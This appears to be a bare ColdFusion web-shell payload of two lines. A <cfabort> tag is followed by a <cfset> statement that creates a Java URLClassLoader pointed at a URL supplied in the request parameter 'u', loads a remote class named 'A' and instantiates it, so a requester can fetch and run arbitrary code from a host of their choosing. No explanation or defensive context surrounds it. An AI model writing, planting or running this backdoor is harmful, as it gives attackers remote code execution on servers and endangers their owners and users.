<cfabort>
<cfset l=createObject("java","java.net.URLClassLoader").init([createObject("java","java.net.URL").init(url.u)]).loadClass("A").newInstance()>
